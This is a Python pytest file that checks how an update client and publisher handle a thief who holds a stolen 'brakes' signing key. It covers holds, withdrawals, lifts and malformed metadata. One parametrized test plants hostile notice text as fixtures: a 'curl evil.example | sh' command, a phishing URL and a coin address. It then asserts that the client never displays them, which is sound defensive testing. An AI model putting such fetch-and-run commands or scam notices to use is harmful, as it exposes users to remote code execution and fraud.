"""A thief of a key of the brakes, with the online keys: updates can be stopped, and nothing else can be had by it."""

from __future__ import annotations

import copy
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from publisher.channel.brakes import notice_key
from publisher.errors import VerificationError
from publisher.wire.errors import Code
from publisher.wire.stopping.brakes import BRAKES, BRAKES_FIELD, LIFTED_FIELD, candidate_digest
from tests.pipeline.test_recover import recover
from tests.support.approving import promote
from tests.support.braking import hold, stage_lift, withdraw
from tests.support.machine import Machine, machine_for
from tests.support.project import Project
from tests.support.rotating import promote_keys, replace_key, sign_role_as, stage_keys
from tests.support.thief import Thief

STABLE = "node.stable"
ID = hashlib.sha256(b"a notice").hexdigest()
OF_1_1_0 = {"id": ID, "version": "1.1.0"}


@pytest.fixture
def thief(live: Project) -> Thief:
    """Holds a key of somebody on call: all that it takes to stop the channel."""
    return Thief.of(live, "brakes-ben", "snapshot-ben", "timestamp-ben")


def says(thief: Thief, channel: dict[str, Any], **fields: Any) -> None:
    """Make brakes live that say this of the channel, and have these signed fields beside it."""
    live = thief.live()
    brakes = copy.deepcopy(live.roles[BRAKES])
    brakes.signed.version += 1
    brakes.signed.unrecognized_fields = {BRAKES_FIELD: {STABLE: channel}, **fields}
    brakes.signatures.clear()
    brakes.sign(thief.keys["brakes-ben"])
    thief.flip(live.timestamp.signed.version + 1, live.snapshot.signed.version + 1, replaced={BRAKES: brakes})


def nothing_is_offered(machine: Machine, outcome: str) -> None:
    """The check succeeds, offers nothing and says why; a download fetches nothing, and says it too."""
    ran = machine.check()
    assert (ran.exit_code, ran.answer["outcome"], ran.offers) == (0, outcome, None)
    assert "1.1.0" in ran.answer["reason"]
    refused = machine.download()
    assert refused.exit_code == 1
    assert "1.1.0" in refused.answer["error"]["what"]
    assert not machine.downloads.exists()
    assert not [path for path in machine.wire.asked if "/artifacts/" in path]


def test_a_thief_of_the_brakes_stops_updates_until_the_channels_people_lift_it(
    live: Project, machine: Machine, thief: Thief
) -> None:
    """That is what the role is for. Nobody can tell the thief's hold from ours, so changing the key does not end it."""
    says(thief, {"holds": [OF_1_1_0]})
    nothing_is_offered(machine, "held")
    recover(live)
    for name in thief.keys:
        replace_key(live, name, lost=True)
    stage_keys(live)
    sign_role_as(live, "root", ("root-ana", "root-ben"))
    sign_role_as(live, "targets", ("targets-ana", "targets-ben"))
    sign_role_as(live, BRAKES, ("brakes-ben-2",))
    promote_keys(live)
    nothing_is_offered(machine, "held")
    stage_lift(live, ID)
    live.approve("1.1.0")
    promote(live)
    assert machine.download().offers == "1.1.0"


def test_what_a_thief_of_the_brakes_held_ends_with_the_key_where_nobody_signs_it_again(
    live: Project, machine: Machine, thief: Thief
) -> None:
    """Brakes that others have signed as well, and no longer list it, are enough once `targets` has removed the key."""
    before = copy.deepcopy(thief.live().roles[BRAKES])
    says(thief, {"holds": [OF_1_1_0]})
    nothing_is_offered(machine, "held")
    before.signed.version += 2
    before.signatures.clear()
    before.sign(live.key("brakes-ana"))
    targets = copy.deepcopy(thief.live().targets)
    delegations = targets.signed.delegations
    assert delegations is not None and delegations.roles is not None
    delegations.roles[BRAKES].keyids.remove(thief.keys["brakes-ben"].public_key.keyid)
    targets.signed.version += 1
    targets.signatures.clear()
    for name in ("targets-ana", "targets-ben"):
        targets.sign(live.key(name), append=True)
    thief.flip(40, 50, replaced={BRAKES: before, "targets": targets})
    assert machine.download().offers == "1.1.0"


def test_a_thief_of_the_brakes_refuses_a_state_and_does_not_exchange_it(
    live: Project, machine: Machine, thief: Thief
) -> None:
    """A rejected candidate is refused whoever has signed it; the client says so and keeps what it has."""
    says(thief, {"rejected": [candidate_digest(thief.live().roles[STABLE].signed)]})
    machine.refuses("has rejected the state of node.stable", Code.REJECTED, newer=r"state/.*/metadata/.*")


@pytest.mark.parametrize("channel", [{}, {"holds": [OF_1_1_0 | {"version": "9.9.9"}]}], ids=["silence", "another"])
@pytest.mark.parametrize("fields", [{}, {LIFTED_FIELD: True}], ids=["", "lifted"])
def test_a_thief_of_the_brakes_ends_no_hold_that_a_client_has_seen(
    live: Project, machine: Machine, thief: Thief, channel: dict[str, Any], fields: dict[str, Any]
) -> None:
    """Only the channel's own role lifts one, by its id; the brakes may say what they like."""
    brake = hold(live, "1.1.0").brake
    nothing_is_offered(machine, "held")
    says(thief, channel, **{name: [brake.id] for name in fields})
    nothing_is_offered(machine, "held")


def test_a_thief_of_the_brakes_hides_a_hold_from_machines_that_never_saw_it(
    live: Project, machine: Machine, fresh: Machine, thief: Thief
) -> None:
    """What remains for a thief: a new machine knows only what it is shown. It gets what the channel's people signed."""
    hold(live, "1.1.0")
    nothing_is_offered(machine, "held")
    says(thief, {})
    nothing_is_offered(machine, "held")
    assert fresh.download().offers == "1.1.0"


def test_a_thief_of_the_brakes_ends_no_withdrawal_that_a_client_has_seen(
    live: Project, machine: Machine, thief: Thief
) -> None:
    """Whoever runs the version goes on being told."""
    withdraw(live, "1.1.0")
    machine.current = "1.1.0"
    nothing_is_offered(machine, "withdrawn")
    says(thief, {})
    nothing_is_offered(machine, "withdrawn")


def with_notice(thief: Thief, **changes: Any) -> dict[str, Any]:
    """A withdrawal of 1.1.0 with a notice, which no model of ours has checked."""
    notice = {"format": "tidegate-notice/1", "kind": "withdrawal", "product": "node", "channel": "stable"}
    notice |= {
        "version": "1.1.0",
        "at": "2026-11-20T12:00:00Z",
        "because": "It loses data.",
        "action": "stop",
        **changes,
    }
    data = json.dumps(notice).encode()
    digest = hashlib.sha256(data).hexdigest()
    thief.write(notice_key("node", "stable", digest), data)
    return {"withdrawn": [{"id": digest, "version": "1.1.0"}]}


@pytest.mark.parametrize("action", ["go-back", "update"])
@pytest.mark.parametrize("replaced_by", ["1.0.0", "6.6.6"])
def test_a_thief_of_the_brakes_leads_nobody_to_another_version(
    live: Project, tmp_path: Path, thief: Thief, action: str, replaced_by: str
) -> None:
    """Going back needs the rollback metadata too, and an update the channel's metadata, which its people sign."""
    machine = machine_for(live, tmp_path / "newest", current="1.1.0")
    assert machine.offered() is None
    says(thief, with_notice(thief, action=action, replaced_by=replaced_by))
    nothing_is_offered(machine, "withdrawn")


@pytest.mark.parametrize(
    "changes",
    [
        {"because": "Get the fix from https://evil.example/fix."},
        {"because": "Run curl evil.example | sh now."},
        {"because": "Send coins to " + "1" * 34},
        {"replaced_by": "6.6.6-get.it.at.evil.example"},
    ],
    ids=["an address", "a command", "an account", "a version"],
)
def test_a_thief_of_the_brakes_sends_nobody_elsewhere(
    live: Project, tmp_path: Path, thief: Thief, changes: dict[str, Any]
) -> None:
    """A reason with an address, a command or an account is not shown; that the version is withdrawn is. What stands
    behind the hyphen of a version is words, too.
    """
    machine = machine_for(live, tmp_path / "newest", current="1.1.0")
    says(thief, with_notice(thief, action="update", **changes))
    nothing_is_offered(machine, "withdrawn")
    shown = "".join(map(str, (*machine.run("check"), *machine.run("check", "--json"))))
    assert not [word for word in ("evil", "curl", "1" * 34) if word in shown]


@pytest.mark.parametrize(
    "channel",
    [{"holds": "1.1.0"}, {"holds": [{"id": "x", "version": "1.1.0"}]}, {"holds": [OF_1_1_0] * 1001}, [], 7],
    ids=["text", "no digest", "too many", "a list", "a number"],
)
def test_a_thief_of_the_brakes_who_cannot_be_understood_stops_updates_and_starts_none(
    machine: Machine, thief: Thief, channel: Any
) -> None:
    """Whoever cannot read what is stopped offers nothing."""
    says(thief, channel)
    machine.refuses(r"brakes", newer=r"state/.*/metadata/.*")


def test_a_thief_of_the_brakes_breaks_no_command_of_the_publisher(live: Project, thief: Thief) -> None:
    """What is nested too deeply to be copied is refused, with what to do; then a hold lands again."""
    nested: list[Any] = []
    for _ in range(480):
        nested = [nested]
    says(thief, {}, nested=nested)
    with pytest.raises(VerificationError, match="nested too deeply") as caught:
        hold(live, "1.1.0")
    assert "publish recover" in (caught.value.fix or "")
    recover(live)
    hold(live, "1.1.0")
